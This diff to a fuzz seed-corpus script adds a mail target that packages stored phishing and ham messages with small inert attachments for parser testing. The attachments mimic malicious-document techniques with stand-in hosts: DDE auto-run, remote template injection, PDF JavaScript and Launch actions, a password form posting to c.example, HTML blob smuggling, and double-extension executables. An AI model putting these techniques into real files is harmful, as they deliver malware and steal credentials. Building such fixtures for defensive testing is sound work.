@@ -2,25 +2,34 @@
 # Builds the seed corpora of the fuzz targets from the shared sample block
 # files (never copied into the repository: fuzz/corpus/ is git-ignored).
 #
-#   fuzz/seed_corpus.sh [BLOCKS_DIR]
+#   fuzz/seed_corpus.sh [BLOCKS_DIR [MAIL_DIR]]
 #
-# BLOCKS_DIR defaults to ../shared/data/blocks beside the repository. Writes:
+# BLOCKS_DIR defaults to ../shared/data/blocks and MAIL_DIR to
+# ../shared/data/mail beside the repository. Writes:
 #   corpus/block/    every block under 50 KB from the two sample files, plus
 #                    the smallest one of 100 KB or more (one raw block each);
 #   corpus/blkfile/  a few small block files (mode byte + file, see
 #                    fuzz_targets/blkfile.rs): clear, XOR-obfuscated,
 #                    truncated, with a zero tail and with garbage;
-#   corpus/script/   one output script of each type, and address strings.
+#   corpus/script/   one output script of each type, and address strings;
+#   corpus/mail/     every message under 64 KB of MAIL_DIR/{phish,ham} (mode
+#                    byte 0 + the message as stored), and small inert
+#                    attachments of each container type built here (mode
+#                    byte 1, a name index, the file; see
+#                    fuzz_targets/mail.rs). Attachments are never cut out of
+#                    the real messages: they stay inside their messages.
 # Existing files are kept; seeds are named by content hash, so reruns are
 # idempotent.
 set -euo pipefail
 
 here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
 blocks="${1:-$here/../../shared/data/blocks}"
+mail="${2:-$here/../../shared/data/mail}"
+[ -d "$mail/phish" ] && [ -d "$mail/ham" ] || { echo "missing $mail/{phish,ham}" >&2; exit 1; }
 for f in mainnet_sample_blocks.dat testnet_signet_sample_blocks.dat; do
     [ -r "$blocks/$f" ] || { echo "missing $blocks/$f" >&2; exit 1; }
 done
-mkdir -p "$here/corpus/block" "$here/corpus/blkfile" "$here/corpus/script"
+mkdir -p "$here/corpus/block" "$here/corpus/blkfile" "$here/corpus/script" "$here/corpus/mail"
 
 python3 - "$blocks" "$here/corpus" <<'EOF'
 import hashlib, os, struct, sys
@@ -149,4 +158,102 @@ for hrp in ("bc", "tb", "bcrt"):
 for s in scripts:
     save("script", s)
 print(f"script:  {len(scripts)} seeds")
+EOF
+
+python3 - "$mail" "$here/corpus/mail" <<'EOF'
+import gzip, hashlib, io, os, sys, tarfile, zipfile, zlib
+
+mail_dir, out = sys.argv[1], sys.argv[2]
+
+def save(blob):
+    with open(os.path.join(out, hashlib.sha1(blob).hexdigest()), "wb") as f:
+        f.write(blob)
+
+# Whole messages, as stored (mode 0).
+n = 0
+for label in ("phish", "ham"):
+    d = os.path.join(mail_dir, label)
+    for name in sorted(os.listdir(d)):
+        path = os.path.join(d, name)
+        if os.path.isfile(path) and os.path.getsize(path) < 64 * 1024:
+            save(b"\x00" + open(path, "rb").read())
+            n += 1
+
+# Attachments (mode 1, then the index of a name in fuzz_targets/mail.rs's
+# NAMES): small and inert, one of each container and document type.
+NAME = {"zip": 0, "docx": 1, "docm": 2, "doc": 4, "hwpx": 7, "pdf": 8,
+        "html": 9, "rtf": 10, "eps": 11, "gz": 13, "tar": 14, "rar": 15,
+        "7z": 16, "one": 17, "exe": 19}
+MZ = b"MZ" + bytes(0x3a) + (0x80).to_bytes(4, "little") + bytes(0x40) + b"PE\0\0\x4c\x01" + bytes(0x7a)
+
+def zipped(members, stored=()):
+    b = io.BytesIO()
+    with zipfile.ZipFile(b, "w") as z:
+        for name, data in members:
+            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
+            z.writestr(zipfile.ZipInfo(name), data, compress_type=method)
+    return b.getvalue()
+
+CT = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+RELS = (b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/relationships/attachedTemplate" Target="https://t.example/x.dotm" '
+        b'TargetMode="External"/></Relationships>')
+DOC = (b'<w:document><w:body><w:p><w:r><w:instrText> DDEAUTO c:\\x.exe </w:instrText></w:r>'
+       b'<w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>')
+PS = b"%!PS-Adobe-3.0\n/pad <" + b"41" * 600 + b"> def\n{ exec } pop\nshowpage\n"
+PDF_BODY = b"4 0 5 40 << /S /JavaScript /JS (void 0;) >> << /S /Launch /F (setup.exe) >>"
+PDF = (b"%PDF-1.5\n1 0 obj << /OpenAction 4 0 R /#4Aava#53cript 2 0 R /URI (http://x.example/) >> endobj\n"
+       b"6 0 obj\n<< /Type /ObjStm /N 2 /First 8 /Filter /FlateDecode >>\nstream\n"
+       + zlib.compress(PDF_BODY) + b"\nendstream\nendobj\n%%EOF\n")
+HTML = (b'<html><body><form action="https://c.example/p"><input type="password"></form><script>'
+        b'var d = atob("aW5lcnQ="); var b = new Blob([d]); var a = document.createElement("a");'
+        b'a.href = URL.createObjectURL(b); a.download = "x.iso"; a.click();</script></body></html>')
+RTF = b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}"
+
+def tarred(name, data):
+    b = io.BytesIO()
+    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
+        info = tarfile.TarInfo(name)
+        info.size = len(data)
+        t.addfile(info, io.BytesIO(data))
+    return b.getvalue()
+
+RAR4 = (b"Rar!\x1a\x07\x00" + bytes([0, 0, 0x73, 0, 0, 13, 0]) + bytes(6)
+        + bytes([0, 0, 0x74]) + (0x8004).to_bytes(2, "little") + (43).to_bytes(2, "little")
+        + (16).to_bytes(4, "little") + (1000).to_bytes(4, "little") + bytes([2]) + bytes(8)
+        + bytes([29, 0x33]) + (11).to_bytes(2, "little") + bytes(4) + b"invoice.exe"
+        + b"\x55" * 16 + bytes([0, 0, 0x7b, 0, 0x40, 7, 0]))
+SEVENZ = (b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(4) + (16).to_bytes(8, "little")
+          + (12).to_bytes(8, "little") + bytes(4) + b"\x33" * 16
+          + bytes([0x17, 0x06, 0x0b, 0x01, 0x24, 0x06, 0xF1, 0x07, 0x01, 0, 0, 0]))
+ONENOTE = (bytes([0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3])
+           + bytes(64) + bytes([0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC])
+           + len(MZ).to_bytes(8, "little") + bytes(12) + MZ + bytes(32))
+
+inner_zip = zipped([("invoice.pdf.exe", MZ), ("readme.txt", b"hello")])
+attachments = [
+    ("zip", inner_zip),
+    ("zip", zipped([("nested.zip", inner_zip), ("a.lnk", bytes(76))], stored=("nested.zip",))),
+    ("docx", zipped([("[Content_Types].xml", CT), ("word/document.xml", DOC),
+                     ("word/_rels/settings.xml.rels", RELS)])),
+    ("docm", zipped([("[Content_Types].xml", CT), ("word/document.xml", DOC),
+                     ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(60)),
+                     ("word/embeddings/oleObject1.bin", MZ)])),
+    ("hwpx", zipped([("mimetype", b"application/hwp+zip"), ("Contents/content.hpf", b'<opf href="https://x.example/a"/>'),
+                     ("Scripts/headerScripts", b'new ActiveXObject("WScript.Shell")'), ("BinData/image1.eps", PS)],
+                    stored=("mimetype",))),
+    ("pdf", PDF),
+    ("html", HTML),
+    ("rtf", RTF),
+    ("eps", PS),
+    ("gz", gzip.compress(tarred("setup.exe", MZ))),
+    ("tar", tarred("docs/setup.exe", MZ)),
+    ("rar", RAR4),
+    ("7z", SEVENZ),
+    ("one", ONENOTE),
+    ("exe", MZ),
+]
+for kind, blob in attachments:
+    save(bytes([1, NAME[kind]]) + blob)
+print(f"mail:    {n} messages, {len(attachments)} attachments")
 EOF
